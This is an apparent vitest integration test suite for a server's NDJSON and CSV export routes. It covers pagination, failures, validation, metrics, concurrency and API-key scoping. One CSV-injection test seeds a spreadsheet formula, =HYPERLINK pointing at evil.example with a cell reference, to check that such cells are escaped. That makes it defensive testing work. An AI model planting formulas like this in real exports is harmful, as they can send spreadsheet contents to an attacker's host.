import { request } from 'node:http';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateApiKey, hashApiKey } from '../../src/server/auth/api-key.js';
import { DEFAULT_LIMITS } from '../../src/server/server.js';
import { createLogger } from '../../src/observability/logger.js';
import { csvSummaryOf, exportUrl, getExport, ndjsonOf, type ExportParams } from '../helpers/export-client.js';
import { captureLog } from '../helpers/log-capture.js';
import { scrape, valueOf } from '../helpers/prometheus-text.js';
import { KINDS, OUTCOMES, SOURCES, sometimes, VENDORS } from '../helpers/filter-arbitraries.js';
import { histogramScope } from '../helpers/histogram-oracle.js';
import { ANCHOR, postGraphQL, startStack, type Stack } from '../helpers/stack.js';
import { appendModelArts } from '../helpers/tail-client.js';
import { fiveSources, oracleEvents, SOURCE_NAMES, walk, type Filter, type OracleEvent, type WalkedEvent } from '../helpers/timeline-oracle.js';

/*
 * The export routes against the real server and the five emulators (seeded, anchored a
 * month before the server's clock): an export is the `events` walk, as rows.
 */

const RUNS = Number(process.env.PROPERTY_RUNS ?? 20);
const COMMON = ['id', 'kind', 'vendor', 'source', 'occurredAt', 'outcome', 'actor', 'resource', 'summary'];

/** Every field of every event type, written out here rather than derived from the schema as the export is. */
const ALL_FIELDS_QUERY = /* GraphQL */ `
  query AllFields($filter: EventFilter) {
    events(first: 500, order: ASC, filter: $filter) {
      edges {
        node {
          id kind vendor source { name } occurredAt outcome actor resource summary
          ... on TriggerEvent {
            triggerName repoName tagName invokeSource invokeAction invokeTime
            invokeCondition { invokeMethod invokeExpr tagList }
            invokePara { appId serviceName clusterId namespace containerName clusterRegion clusterRegionName }
            invokeResult { returnCode returnMsg }
          }
          ... on ImageEvent { resourceName resourceType eventName eventId eventType sourceIp userName content }
          ... on SecretNotificationEvent {
            eventName triggerEventType secretName secretType notificationTargetName notificationTargetId
            notificationContent notificationPayload notificationStatus
          }
          ... on DeploymentEvent { serviceId serviceName eventType eventInfo }
          ... on AuditEvent { type createdDate projectId repoName resourceKey userId clientAddress description md5 sha256 pipelineId buildId }
          raw
        }
      }
    }
  }
`;

function paramsOf(filter: Filter, order: 'ASC' | 'DESC', epochTimes: boolean): ExportParams {
  const time = (ms: number | undefined) => (ms === undefined ? undefined : epochTimes ? ms : new Date(ms).toISOString());
  return {
    kinds: filter.kinds?.join(','),
    vendors: filter.vendors,
    sources: filter.sources?.join(','),
    outcomes: filter.outcomes?.join(','),
    since: time(filter.since),
    until: time(filter.until),
    actor: filter.actor,
    resource: filter.resource,
    search: filter.search,
    order,
  };
}

/** A walked event as the export writes it: `source` is its name. */
const asRow = (event: WalkedEvent) => ({ ...event, source: event.source.name });
const common = (row: Record<string, unknown>) => Object.fromEntries([...COMMON, 'raw'].map((key) => [key, row[key]]));

describe('the export routes', () => {
  let stack: Stack;
  let all: OracleEvent[];
  let times: number[];
  const ndjson = async (params: ExportParams, headers?: Record<string, string>) => {
    const response = await getExport(exportUrl(stack.server.url, 'ndjson', params), headers);
    expect(response.status, response.body).toBe(200);
    return ndjsonOf(response.body);
  };

  beforeAll(async () => {
    stack = await startStack({
      emulators: { seed: 7, now: ANCHOR, scale: 0.05 },
      sources: (emulators) => fiveSources(emulators, histogramScope(emulators)),
    });
    all = oracleEvents(stack.emulators, histogramScope(stack.emulators));
    times = all.map((event) => event.occurredAt).sort((a, b) => a - b);
    // More than a page: the walk and the export both go past page boundaries.
    expect(all.length).toBeGreaterThan(1_000);
  }, 60_000);
  afterAll(() => stack?.close());

  it('equals the events walk, for random ranges, filters and orders (property)', { timeout: 180_000 }, async () => {
    const choice = fc.record({
      kinds: sometimes(fc.subarray(KINDS, { minLength: 1 })),
      vendors: sometimes(fc.subarray(VENDORS, { minLength: 1 })),
      sources: sometimes(fc.subarray(SOURCES, { minLength: 1 })),
      outcomes: sometimes(fc.subarray(OUTCOMES, { minLength: 1 })),
      actor: sometimes(fc.nat()),
      bounds: sometimes(fc.tuple(sometimes(fc.nat(), 1), sometimes(fc.nat(), 1)), 1),
      order: fc.constantFrom<'ASC' | 'DESC'>('ASC', 'DESC'),
      epochTimes: fc.boolean(),
    });
    await fc.assert(
      fc.asyncProperty(choice, async (drawn) => {
        const [since, until] = (drawn.bounds ?? []).map((index) => (index === undefined ? undefined : times[index % times.length]));
        const filter: Filter = {
          ...(drawn.kinds ? { kinds: drawn.kinds } : {}),
          ...(drawn.vendors ? { vendors: drawn.vendors } : {}),
          ...(drawn.sources ? { sources: drawn.sources } : {}),
          ...(drawn.outcomes ? { outcomes: drawn.outcomes } : {}),
          ...(drawn.actor !== undefined && all[drawn.actor % all.length]!.actor !== null ? { actor: all[drawn.actor % all.length]!.actor! } : {}),
          ...(since !== undefined && (until === undefined || since <= until) ? { since } : {}),
          ...(until !== undefined && (since === undefined || since <= until) ? { until } : {}),
        };
        const walked = await walk(stack, { order: drawn.order, pageSize: 500, direction: 'forward', filter });
        const { rows, summary } = await ndjson(paramsOf(filter, drawn.order, drawn.epochTimes));
        const context = JSON.stringify({ filter, order: drawn.order });
        expect(rows.map((row) => row['id']), context).toEqual(walked.events.map((event) => event.id));
        expect(rows.map(common), context).toEqual(walked.events.map(asRow));
        expect(summary, context).toMatchObject({ complete: true, stopped: 'END', events: rows.length, nextCursor: null, failed: [] });
        const perSource = Object.fromEntries(summary.sources.map((source) => [source.name, source.events]));
        for (const name of SOURCES) expect(perSource[name] ?? 0, `${context}: ${name}`).toBe(rows.filter((row) => row['source'] === name).length);
      }),
      { numRuns: RUNS, seed: 20261204 },
    );
  });

  it('writes each event as events gives it: the common fields, then the vendor fields, then raw', async () => {
    const answer = await stack.gql<{ events: { edges: { node: WalkedEvent & Record<string, unknown> }[] } }, unknown>(ALL_FIELDS_QUERY, {});
    expect(answer.errors).toBeUndefined();
    const expected = answer.data!.events.edges.map((edge) => asRow(edge.node));
    const { rows } = await ndjson({ limit: 500 });
    expect(rows).toEqual(expected);
    // The service is read from the service list as it is now: not part of the event.
    expect(rows.some((row) => 'service' in row)).toBe(false);
    for (const kind of KINDS) expect(rows.some((row) => row['kind'] === kind), kind).toBe(true);
    for (const row of rows) {
      const keys = Object.keys(row);
      expect(keys.slice(0, COMMON.length)).toEqual(COMMON);
      expect(keys.at(-1)).toBe('raw');
    }
  });

  it('CSV holds the same events: one column per field, nested objects flattened, the summary in a trailer', async () => {
    const { rows, summary } = await ndjson({});
    const response = await getExport(exportUrl(stack.server.url, 'csv', {}));
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    const [header, ...records] = parseCsv(response.body) as string[][];
    expect(header!.slice(0, COMMON.length)).toEqual(COMMON);
    expect(header).toContain('invokeResult.returnCode');
    expect(header).toContain('invokePara.clusterRegion');
    expect(header).not.toContain('raw');
    expect(records.map((record) => record[0])).toEqual(rows.map((row) => row['id']));
    const column = (name: string) => header!.indexOf(name);
    rows.forEach((row, index) => {
      const record = records[index]!;
      expect(record[column('occurredAt')]).toBe(row['occurredAt']);
      expect(record[column('actor')]).toBe(row['actor'] ?? '');
      if (row['kind'] === 'TRIGGER') {
        expect(record[column('invokeResult.returnCode')]).toBe(String((row['invokeResult'] as { returnCode: number }).returnCode));
        expect(record[column('invokeCondition.tagList')]).toBe(JSON.stringify((row['invokeCondition'] as { tagList: unknown }).tagList) === 'null' ? '' : JSON.stringify((row['invokeCondition'] as { tagList: unknown }).tagList));
      }
      if (row['kind'] === 'AUDIT') expect(JSON.parse(record[column('description')]!)).toEqual(row['description']);
    });
    // A continuation leaves the header out, and says so.
    const continued = await getExport(exportUrl(stack.server.url, 'csv', { header: 'false', limit: 2 }));
    expect(continued.headers['content-type']).toContain('header=absent');
    expect((parseCsv(continued.body) as string[][]).map((record) => record[0])).toEqual(rows.slice(0, 2).map((row) => row['id']));
    const { upstreamCalls: _calls, ...trailer } = csvSummaryOf(response);
    const { upstreamCalls: _ndjsonCalls, ...expected } = summary;
    expect(trailer).toEqual({ ...expected, asOf: trailer.asOf });
  });

  it('CSV: a cell that starts with =, +, - or @ cannot run as a formula; NDJSON keeps the text as it is', async () => {
    const service = stack.emulators.modelarts.services()[0]!.service_id;
    const at = ANCHOR - 3_600_000;
    const texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(1,2)'];
    await appendModelArts(stack.emulators, service, texts.map((info, index) => ({ at: at + index, info })));
    const params = { kinds: 'DEPLOYMENT', since: at, until: at + texts.length - 1 };
    const response = await getExport(exportUrl(stack.server.url, 'csv', params));
    const [header, ...records] = parseCsv(response.body) as string[][];
    const info = header!.indexOf('eventInfo');
    expect(records.map((record) => record[info])).toEqual(texts.map((text) => `'${text}`));
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@]/);
    const { rows } = await ndjson(params);
    expect(rows.map((row) => row['eventInfo'])).toEqual(texts);
  });

  it.each(['ASC', 'DESC'] as const)('%s: parts cut by limit and resumed with nextCursor are the whole, with no gap and no duplicate', async (order) => {
    const whole = await ndjson({ order });
    const parts: Record<string, unknown>[] = [];
    let after: string | undefined;
    for (let part = 0; ; part += 1) {
      expect(part).toBeLessThan(50);
      const { rows, summary } = await ndjson({ order, limit: 137, after });
      parts.push(...rows);
      if (summary.complete) break;
      expect(summary).toMatchObject({ stopped: 'LIMIT', events: 137 });
      after = summary.nextCursor!;
    }
    expect(parts).toEqual(whole.rows);
  });

  it('a source that fails mid-export is in the summary; a retry with its cursor completes the export', async () => {
    const whole = await ndjson({});
    const first = await ndjson({ limit: 300 });
    stack.emulators.modelarts.setKnobs({ forceStatus: 500 });
    let failing;
    try {
      failing = await ndjson({ after: first.summary.nextCursor! });
    } finally {
      stack.emulators.modelarts.resetKnobs();
    }
    expect(failing.summary).toMatchObject({ complete: false, stopped: 'END', failed: [SOURCE_NAMES.modelarts] });
    expect(failing.summary.nextCursor).toEqual(expect.any(String));
    const failed = failing.summary.sources.find((source) => source.name === SOURCE_NAMES.modelarts);
    expect(failed).toMatchObject({ status: 'FAILED', error: { code: 'UPSTREAM_UNAVAILABLE' } });
    expect(failing.rows.some((row) => row['source'] === SOURCE_NAMES.modelarts)).toBe(false);

    const retry = await ndjson({ after: failing.summary.nextCursor! });
    expect(retry.summary).toMatchObject({ complete: true, failed: [] });
    expect(retry.rows.length).toBeGreaterThan(0);
    expect(retry.rows.every((row) => row['source'] === SOURCE_NAMES.modelarts)).toBe(true);
    const exported = [...first.rows, ...failing.rows, ...retry.rows];
    const ids = exported.map((row) => row['id']);
    expect(new Set(ids).size).toBe(ids.length);
    expect(new Set(ids)).toEqual(new Set(whole.rows.map((row) => row['id'])));
  });

  it('HEAD answers as GET would begin, reading a page of one event and nothing ahead', async () => {
    const head = (params: ExportParams) =>
      new Promise<{ status: number; type: string | undefined }>((resolve, reject) => {
        const req = request(exportUrl(stack.server.url, 'csv', params), { method: 'HEAD' }, (res) => {
          res.resume();
          res.on('end', () => resolve({ status: res.statusCode!, type: res.headers['content-type'] }));
        });
        req.on('error', reject).end();
      });
    let before = upstreamRequests(stack);
    await getExport(exportUrl(stack.server.url, 'csv', { limit: 1 }));
    const onePage = upstreamRequests(stack) - before;
    before = upstreamRequests(stack);
    expect(await head({})).toEqual({ status: 200, type: 'text/csv; charset=utf-8; header=present' });
    await new Promise((resolve) => setTimeout(resolve, 300));
    // A page of one event (whose reads the read plan may share out otherwise), and no other page.
    expect(upstreamRequests(stack) - before).toBeLessThanOrEqual(2 * onePage);
    expect(await head({ kinds: 'NOPE' })).toMatchObject({ status: 400 });
  });

  it('refuses bad input with BAD_USER_INPUT naming the parameter, before any upstream call', async () => {
    const cases: [ExportParams, string][] = [
      [{ kinds: 'AUDIT,NOPE' }, 'kinds'],
      [{ since: 'yesterday' }, 'since'],
      [{ until: '1.5' }, 'until'],
      [{ order: 'SIDEWAYS' }, 'order'],
      [{ limit: 0 }, 'limit'],
      [{ limit: 'ten' }, 'limit'],
      [{ first: 10 }, 'first'],
      [{ actor: ['a', 'b'] }, 'actor'],
      [{ after: 'not-a-cursor' }, 'after'],
      [{ sources: 'nowhere' }, 'filter'],
      [{ since: '2026-02-01T00:00:00Z', until: '2026-01-01T00:00:00Z' }, 'filter'],
    ];
    // A cursor of another order is another walk's.
    const { summary } = await ndjson({ limit: 1 });
    cases.push([{ order: 'DESC', after: summary.nextCursor! }, 'after']);
    const before = upstreamRequests(stack);
    for (const [params, argument] of cases) {
      const response = await getExport(exportUrl(stack.server.url, 'ndjson', params));
      expect(response.status, JSON.stringify(params)).toBe(400);
      const body = JSON.parse(response.body) as { errors: { message: string; extensions: { code: string; argument?: string } }[] };
      expect(body.errors[0]!.extensions, JSON.stringify(params)).toMatchObject({ code: 'BAD_USER_INPUT', argument });
    }
    // `header` is CSV's.
    const header = await getExport(exportUrl(stack.server.url, 'ndjson', { header: 'false' }));
    expect(JSON.parse(header.body)).toMatchObject({ errors: [{ extensions: { code: 'BAD_USER_INPUT', argument: 'header' } }] });
    expect(upstreamRequests(stack)).toBe(before);
  });
});

describe('exports in the request log and metrics', () => {
  const capture = captureLog();
  let stack: Stack;

  beforeAll(async () => {
    stack = await startStack({ server: { metrics: { enabled: true }, logger: createLogger({ level: 'info', destination: capture.destination }) } });
  }, 60_000);
  afterAll(() => stack?.close());

  it('each export is a request named export.ndjson or export.csv: ok, partial when a source failed, error when refused', async () => {
    const ok = await getExport(exportUrl(stack.server.url, 'ndjson', { limit: 30 }));
    stack.emulators.modelarts.setKnobs({ forceStatus: 500 });
    try {
      await getExport(exportUrl(stack.server.url, 'csv'));
    } finally {
      stack.emulators.modelarts.resetKnobs();
    }
    await getExport(exportUrl(stack.server.url, 'csv', { kinds: 'NOPE' }));
    const line = await capture.requestLine(String(ok.headers['x-request-id']));
    expect(line).toMatchObject({ operation: 'export.ndjson', operationType: 'export', outcome: 'ok', status: 200, export: { complete: false, stopped: 'LIMIT', events: 30 } });
    await capture.waitFor((lines) => lines.filter((each) => each.msg === 'request').length >= 3);
    const samples = await scrape(stack.server.metricsUrl!);
    const requests = (operation: string, outcome: string) => valueOf(samples, 'eventgraph_graphql_requests_total', { operation, outcome });
    expect(requests('export.ndjson', 'ok')).toBe(1);
    expect(requests('export.csv', 'partial')).toBe(1);
    expect(requests('export.csv', 'error')).toBe(1);
  });
});

describe('exports at once', () => {
  let stack: Stack;

  beforeAll(async () => {
    stack = await startStack({ server: { maxConcurrentExports: 1, queueTimeoutMs: 200, requestTimeoutMs: 3_000 } });
  }, 60_000);
  afterAll(() => stack?.close());

  it('are held to server.maxConcurrentExports: one more waits, then gets 503 with Retry-After; GraphQL requests go on', async () => {
    stack.emulators.modelarts.setKnobs({ hang: true });
    try {
      const first = getExport(exportUrl(stack.server.url, 'ndjson'));
      await new Promise((resolve) => setTimeout(resolve, 100));
      const second = await getExport(exportUrl(stack.server.url, 'csv'));
      expect(second.status).toBe(503);
      expect(second.headers['retry-after']).toBe('1');
      expect(JSON.parse(second.body)).toMatchObject({ errors: [{ extensions: { code: 'SERVICE_UNAVAILABLE' } }] });
      expect(JSON.parse(second.body).errors[0].message).toContain('server.maxConcurrentExports');
      const query = await stack.gql('{ sources { name } }');
      expect(query).toMatchObject({ status: 200, data: { sources: [{ name: 'modelarts' }] } });
      stack.emulators.modelarts.resetKnobs();
      // The first ends at its page's deadline, with the source that hung reported.
      const { summary } = ndjsonOf((await first).body);
      expect(summary).toMatchObject({ complete: false, failed: ['modelarts'] });
    } finally {
      stack.emulators.modelarts.resetKnobs();
    }
    const after = await getExport(exportUrl(stack.server.url, 'ndjson', { limit: 1 }));
    expect(after.status).toBe(200);
  });
});

describe('the export routes with auth', () => {
  const FAST = { N: 2 ** 14, r: 8, p: 1 };
  const KEY = generateApiKey();
  const NARROW_KEY = generateApiKey();
  const CHEAP_KEY = generateApiKey();
  let stack: Stack;
  const bearer = (key: string) => ({ authorization: `Bearer ${key}` });

  beforeAll(async () => {
    stack = await startStack({
      emulators: { seed: 7, now: ANCHOR, scale: 0.05 },
      sources: (emulators) => fiveSources(emulators, histogramScope(emulators)),
      server: {
        auth: {
          mode: 'required',
          apiKeys: [
            { name: 'auditor', hash: await hashApiKey(KEY, FAST), sources: ['*'] },
            { name: 'huawei', hash: await hashApiKey(NARROW_KEY, FAST), sources: [SOURCE_NAMES.hss, SOURCE_NAMES.csms] },
            { name: 'cheap', hash: await hashApiKey(CHEAP_KEY, FAST), sources: ['*'], maxCost: 60 },
          ],
        },
        limits: { ...DEFAULT_LIMITS, maxExportCost: 200 },
      },
    });
  }, 60_000);
  afterAll(() => stack?.close());

  const get = (params: ExportParams, key?: string) => getExport(exportUrl(stack.server.url, 'ndjson', params), key ? bearer(key) : {});

  it('needs a credential: UNAUTHENTICATED without one', async () => {
    const response = await get({});
    expect(response.status).toBe(401);
    expect(JSON.parse(response.body)).toMatchObject({ errors: [{ extensions: { code: 'UNAUTHENTICATED' } }] });
  });

  it("keeps to the caller's scope: only its sources, FORBIDDEN for another's", async () => {
    const narrow = ndjsonOf((await get({}, NARROW_KEY)).body);
    expect(new Set(narrow.rows.map((row) => row['source']))).toEqual(new Set([SOURCE_NAMES.hss, SOURCE_NAMES.csms]));
    expect(narrow.summary.sources.map((source) => source.name).sort()).toEqual([SOURCE_NAMES.csms, SOURCE_NAMES.hss]);
    const forbidden = await get({ sources: SOURCE_NAMES.bkrepo }, NARROW_KEY);
    expect(forbidden.status).toBe(403);
    expect(JSON.parse(forbidden.body)).toMatchObject({ errors: [{ extensions: { code: 'FORBIDDEN' } }] });
  });

  it('spends a budget of upstream calls: it stops at BUDGET with a cursor, and the parts resumed are the whole', async () => {
    const whole = await postWalkIds(stack, KEY);
    const parts: unknown[] = [];
    let after: string | undefined;
    let budgetStops = 0;
    for (let part = 0; ; part += 1) {
      expect(part).toBeLessThan(100);
      const { rows, summary } = ndjsonOf((await get({ after }, KEY)).body);
      parts.push(...rows.map((row) => row['id']));
      expect(summary.upstreamCalls).toBeLessThanOrEqual(200);
      expect(summary.budget).toBe(200);
      if (summary.complete) break;
      expect(summary.stopped).toBe('BUDGET');
      budgetStops += 1;
      after = summary.nextCursor!;
    }
    expect(budgetStops).toBeGreaterThan(0);
    expect(parts).toEqual(whole);
  });

  it("a caller's own maxCost is its budget; one too small for a page is QUERY_TOO_COSTLY, with no upstream call", async () => {
    const cheap = await get({ kinds: 'IMAGE,SECRET_NOTIFICATION' }, CHEAP_KEY);
    expect(cheap.status).toBe(200);
    expect(ndjsonOf(cheap.body).summary.budget).toBe(60);
    const before = upstreamRequests(stack);
    const refused = await get({}, CHEAP_KEY);
    expect(upstreamRequests(stack)).toBe(before);
    expect(refused.status).toBe(400);
    expect(JSON.parse(refused.body)).toMatchObject({ errors: [{ extensions: { code: 'QUERY_TOO_COSTLY', limit: 60 } }] });
  });
});

/** The ids of the whole `events` walk, oldest first, for a key. */
async function postWalkIds(stack: Stack, key: string): Promise<string[]> {
  const ids: string[] = [];
  let after: string | null = null;
  do {
    const page: { data?: { events: { edges: { node: { id: string } }[]; pageInfo: { hasNextPage: boolean; endCursor: string | null } } } | null } = await postGraphQL(
      stack.server.url,
      'query($after: String) { events(first: 500, after: $after, order: ASC) { edges { node { id } } pageInfo { hasNextPage endCursor } } }',
      { after },
      { authorization: `Bearer ${key}` },
    );
    ids.push(...page.data!.events.edges.map((edge) => edge.node.id));
    after = page.data!.events.pageInfo.hasNextPage ? page.data!.events.pageInfo.endCursor : null;
  } while (after);
  return ids;
}

/** Every API request the stack's emulators have answered. */
function upstreamRequests(stack: Stack): number {
  return Object.values(stack.emulators).reduce((sum, emulator) => sum + (typeof emulator === 'object' && emulator && 'requests' in emulator ? (emulator as { requests(): { total: number } }).requests().total : 0), 0);
}
